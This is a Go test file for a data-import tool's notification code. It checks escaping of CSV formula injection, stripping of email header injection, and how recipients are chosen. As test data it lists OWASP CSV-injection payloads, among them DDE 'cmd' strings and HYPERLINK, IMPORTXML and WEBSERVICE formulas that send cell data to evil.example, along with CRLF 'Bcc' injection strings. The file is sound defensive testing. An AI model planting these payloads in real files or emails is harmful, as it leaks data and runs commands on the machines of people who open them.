package notify_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/sluicehq/sluice/notify"
	"github.com/sluicehq/sluice/platform"
	"github.com/sluicehq/sluice/schemas"
)

func TestEscape(t *testing.T) {
	cases := []struct {
		name string
		cell string
		want string
	}{
		{name: "formula", cell: "=1+1", want: "'=1+1"},
		{name: "hyperlink formula", cell: `=HYPERLINK("http://evil.example","x")`, want: `'=HYPERLINK("http://evil.example","x")`},
		{name: "plus", cell: "+1 555 0100", want: "'+1 555 0100"},
		{name: "minus", cell: "-2+3", want: "'-2+3"},
		{name: "at", cell: "@SUM(A1:A2)", want: "'@SUM(A1:A2)"},
		{name: "tab", cell: "\t=1", want: "'\t'=1"},
		{name: "carriage return", cell: "\r=1", want: "'\r'=1"},
		{name: "spaces first", cell: "  =1+1", want: "  '=1+1"},
		{name: "quote first", cell: `"=1+1"`, want: `"'=1+1"`},
		{name: "full-width equals", cell: "＝1+1", want: "'＝1+1"},
		{name: "after a semicolon", cell: "x;=2+5+cmd|' /C calc'!A0", want: "x;'=2+5+cmd|' /C calc'!A0"},
		{name: "after a comma and a space", cell: "a, -b", want: "a, '-b"},
		{name: "after a line break", cell: "a\n@b", want: "a\n'@b"},
		{name: "plain text", cell: "John", want: "John"},
		{name: "email", cell: "john@example.com", want: "john@example.com"},
		{name: "formula sign later", cell: "a=1", want: "a=1"},
		{name: "single quote already", cell: "'=1", want: "'=1"},
		{name: "non-ASCII", cell: "Жанна", want: "Жанна"},
		{name: "empty", cell: "", want: ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := notify.Escape(tc.cell); got != tc.want {
				t.Errorf("Escape(%q) = %q, want %q", tc.cell, got, tc.want)
			}
		})
	}
}

// owaspPayloads are OWASP's CSV-injection examples (and the variants the
// cheat sheet warns of: a tab or a carriage return first, a formula after a
// separator inside the cell, quotes around it).
var owaspPayloads = []string{
	"=cmd|' /C calc'!A0",
	"=2+5+cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	`=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click here")`,
	`=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")`,
	`=WEBSERVICE("http://evil.example/"&A1)`,
	"\t=1+1",
	"\r=1+1",
	"x;=2+5+cmd|' /C calc'!A0",
	"x,=2+5+cmd|' /C calc'!A0",
	"x\t=2+5+cmd|' /C calc'!A0",
	`x;"=1+1`,
	`x","=1+1`,
	"x\r\n=1+1",
	"  @SUM(1)",
}

// TestReportOpensAsText writes every OWASP payload into every text column
// of a report and reads the report as spreadsheets do: as CSV with a comma,
// and split at every comma, semicolon, tab and line break whatever the
// quotes say (the reading of a spreadsheet whose list separator is not the
// file's). No piece starts a formula, every cell is quoted, and the comma
// reading gives each cell back as Escape made it.
func TestReportOpensAsText(t *testing.T) {
	var buf bytes.Buffer
	w, err := notify.NewReportWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range owaspPayloads {
		if err := w.Write(schemas.Rejected{N: i + 1, Violations: []schemas.Violation{{Column: p, Code: schemas.CodeFormat, Value: p, Message: p}}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	report := buf.String()

	lines, err := csv.NewReader(strings.NewReader(report)).ReadAll()
	if err != nil {
		t.Fatalf("report is not CSV: %v", err)
	}
	for i, p := range owaspPayloads {
		e := strings.ReplaceAll(notify.Escape(p), "\r\n", "\n") // encoding/csv reads a quoted CRLF as LF
		want := []string{strconv.Itoa(i + 1), e, schemas.CodeFormat, e, e, notify.Escape(schemas.Hint(schemas.CodeFormat))}
		if !reflect.DeepEqual(lines[i+1], want) {
			t.Errorf("line of %q = %q, want %q", p, lines[i+1], want)
		}
	}
	quoted := regexp.MustCompile(`^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n`)
	for rest := report; rest != ""; {
		m := quoted.FindString(rest)
		if m == "" {
			t.Fatalf("a line with a cell not quoted: %q", rest[:min(len(rest), 80)])
		}
		rest = rest[len(m):]
	}
	for _, piece := range strings.FieldsFunc(report, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
		first, _ := utf8.DecodeRuneInString(strings.TrimLeft(piece, ` "`))
		if strings.ContainsRune("=+-@＝＋－＠", first) {
			t.Errorf("a spreadsheet splitting the report finds a formula: %q", piece)
		}
	}
}

func TestReportWriter(t *testing.T) {
	header := []string{"row", "column", "rule", "value", "message", "solution"}
	cases := []struct {
		name     string
		rejected []schemas.Rejected
		want     [][]string // the lines after the header
	}{
		{name: "no rejected rows"},
		{name: "one line per violation",
			rejected: []schemas.Rejected{
				{N: 3, Violations: []schemas.Violation{
					{Column: "firstName", Code: schemas.CodeRequired, Message: schemas.MsgRequired("firstName")},
					{Column: "email", Code: schemas.CodeFormat, Value: "john.doe", Message: schemas.MsgFormat},
				}},
				{N: 7, Violations: []schemas.Violation{
					{Column: "email", Code: schemas.CodeDuplicate, Value: "jane@example.com", Message: schemas.MsgDuplicate},
				}},
			},
			want: [][]string{
				{"3", "firstName", "required", "", "the value of the field firstName cannot be empty"},
				{"3", "email", "format", "john.doe", "the entered value does not match the format"},
				{"7", "email", "duplicate", "jane@example.com", schemas.MsgDuplicate},
			}},
		{name: "formulas escaped, quotes and delimiters survive",
			rejected: []schemas.Rejected{{N: 4, Violations: []schemas.Violation{
				{Column: "lastName", Code: schemas.CodeTooLong, Value: `=HYPERLINK("http://evil.example","a,b")`, Message: schemas.MsgTooLong("lastName", 50)},
				{Column: "type", Code: schemas.CodeFormat, Value: "@cmd", Message: schemas.MsgFormat},
				{Column: "desk", Code: schemas.CodeFormat, Value: "line\nbreak", Message: schemas.MsgFormat},
			}}},
			want: [][]string{
				{"4", "lastName", "too_long", `'=HYPERLINK("http://evil.example","a,b")`, "the field lastName can contain no more than 50 characters"},
				{"4", "type", "format", "'@cmd", schemas.MsgFormat},
				{"4", "desk", "format", "line\nbreak", schemas.MsgFormat},
			}},
		{name: "malformed row has no column",
			rejected: []schemas.Rejected{{N: 9, Violations: []schemas.Violation{
				{Code: schemas.CodeMalformed, Message: schemas.MsgMalformed(`bare " in non-quoted-field`)},
			}}},
			want: [][]string{{"9", "", "malformed_row", "", `the row is not valid CSV (bare " in non-quoted-field); check its quotes`}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := notify.NewReportWriter(&buf)
			if err != nil {
				t.Fatalf("NewReportWriter: %v", err)
			}
			for _, r := range tc.rejected {
				if err := w.Write(r); err != nil {
					t.Fatalf("Write(%+v): %v", r, err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatalf("Close: %v", err)
			}
			if w.Lines() != len(tc.want) {
				t.Errorf("Lines() = %d, want %d", w.Lines(), len(tc.want))
			}
			got, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatalf("report is not CSV: %v\n%s", err, buf.String())
			}
			if len(got) == 0 || !reflect.DeepEqual(got[0], header) {
				t.Fatalf("report header = %q, want %q", got, header)
			}
			var want [][]string // each line ends with its rule's solution
			for _, w := range tc.want {
				want = append(want, append(slices.Clone(w), schemas.Hint(w[2])))
			}
			if lines := got[1:]; !reflect.DeepEqual(lines, append([][]string{}, want...)) {
				t.Errorf("report lines =\n %q\nwant\n %q", lines, tc.want)
			}
		})
	}
}

func TestHeaderSafe(t *testing.T) {
	cases := []struct {
		name string
		in   string
		want string
	}{
		{name: "plain", in: "clients.csv: completed", want: "clients.csv: completed"},
		{name: "CRLF header injection", in: "clients.csv\r\nBcc: all@example.com", want: "clients.csvBcc: all@example.com"},
		{name: "bare LF", in: "a\nb", want: "ab"},
		{name: "bare CR", in: "a\rb", want: "ab"},
		{name: "tab and NUL", in: "a\tb\x00c", want: "abc"},
		{name: "escape and DEL", in: "a\x1b[31mb\x7f", want: "a[31mb"},
		// NEL is a line break in Unicode: "every other control character".
		{name: "C1 next line", in: "a\u0085b", want: "ab"},
		{name: "non-ASCII kept", in: "клиенты июнь.csv", want: "клиенты июнь.csv"},
		{name: "empty", in: "", want: ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := notify.HeaderSafe(tc.in); got != tc.want {
				t.Errorf("HeaderSafe(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestRecipientOf(t *testing.T) {
	acme := platform.Tenant{Contact: "ops@acme.example", Recipients: []string{"acme.example", "audit@partner.example"}}
	cases := []struct {
		name     string
		tenant   platform.Tenant
		uploader string
		want     notify.Recipient
	}{
		{name: "uploader of an allowed domain", tenant: acme, uploader: "jane@acme.example", want: notify.Recipient{To: "jane@acme.example"}},
		{name: "allowed domain, other case", tenant: acme, uploader: "Jane@ACME.example", want: notify.Recipient{To: "Jane@ACME.example"}},
		{name: "allowed address", tenant: acme, uploader: "audit@partner.example", want: notify.Recipient{To: "audit@partner.example"}},
		{name: "another address of an allowed address's domain", tenant: acme, uploader: "boss@partner.example",
			want: notify.Recipient{To: "ops@acme.example", Claimed: "boss@partner.example"}},
		{name: "a subdomain is another domain", tenant: acme, uploader: "x@evil.acme.example",
			want: notify.Recipient{To: "ops@acme.example", Claimed: "x@evil.acme.example"}},
		{name: "anyone else: the contact, told who was claimed", tenant: acme, uploader: "victim@elsewhere.example",
			want: notify.Recipient{To: "ops@acme.example", Claimed: "victim@elsewhere.example"}},
		{name: "no uploader: tenant contact", tenant: acme, want: notify.Recipient{To: "ops@acme.example"}},
		{name: "uploader not an email", tenant: acme, uploader: "jane", want: notify.Recipient{To: "ops@acme.example", Claimed: "jane"}},
		{name: "uploader with an injected header", tenant: acme, uploader: "jane@acme.exampleBcc: all@acme.example",
			want: notify.Recipient{To: "ops@acme.example", Claimed: "jane@acme.exampleBcc: all@acme.example"}},
		{name: "the contact itself", tenant: platform.Tenant{Contact: "ops@acme.example"}, uploader: "OPS@acme.example",
			want: notify.Recipient{To: "OPS@acme.example"}},
		{name: "a tenant that allows nobody else and has no contact", tenant: platform.Tenant{}, uploader: "bob@beta.example",
			want: notify.Recipient{Claimed: "bob@beta.example"}},
		{name: "unknown tenant, nobody", tenant: platform.Tenant{}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			imp := schemas.Import{ID: "imp-1", Tenant: "acme", Dataset: "clients", Uploader: tc.uploader}
			if got := notify.RecipientOf(imp, tc.tenant); got != tc.want {
				t.Errorf("RecipientOf(uploader %q) = %+v, want %+v", tc.uploader, got, tc.want)
			}
		})
	}
}

func TestRecipientAddress(t *testing.T) {
	m := notify.Mail{Subject: "s", Body: "Your file was imported.\n"}
	if got := (notify.Recipient{To: "jane@acme.example"}).Address(m); got.To != "jane@acme.example" || got.Body != m.Body {
		t.Errorf("allowed uploader: got %+v, want the mail unchanged, to jane", got)
	}
	got := (notify.Recipient{To: "ops@acme.example", Claimed: "victim@elsewhere.example\r\nBcc: x@y"}).Address(m)
	want := "The upload named \"victim@elsewhere.example Bcc: x@y\" to be told of this import. That address is not among " +
		"those your company lets sluice mail, so this email comes to you, the company's contact.\n\nYour file was imported.\n"
	if got.To != "ops@acme.example" || got.Body != want {
		t.Errorf("refused uploader: got %+v, want to the contact with body\n%s", got, want)
	}
}
